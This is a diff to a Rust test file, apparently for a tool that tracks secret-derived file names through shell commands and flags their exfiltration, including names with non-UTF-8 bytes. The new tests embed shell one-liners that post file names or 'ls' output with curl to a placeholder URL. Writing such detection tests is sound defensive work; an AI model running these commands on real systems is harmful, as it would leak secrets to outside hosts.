@@ -201,3 +201,17 @@ fn names_benign_ls_of_the_project_with_its_secret_file() {
     r.assert_ok();
     a.server.assert_received(Some(".env"), &r);
 }
+
+/// Issue 15 item 7: a name that is not UTF-8 is still an entry with an identity
+/// (device, inode), so its name label attaches and a glob over it carries it.
+#[test]
+fn names_exfil_for_loop_over_a_glob_of_a_name_that_is_not_utf8() {
+    names_exfil(
+        r#"n="{NAME}"$'\xff'; mkdir d; touch "d/$n"; unset n; cd d; for f in *; do curl -s -d "$f" {URL}/p; done"#,
+    );
+}
+
+#[test]
+fn names_exfil_ls_of_a_dir_named_from_a_secret_with_a_byte_that_is_not_utf8() {
+    names_exfil(r#"n=$'\xfe'"{NAME}"; mkdir "$n"; unset n; ls | curl -s -d @- {URL}/p"#);
+}
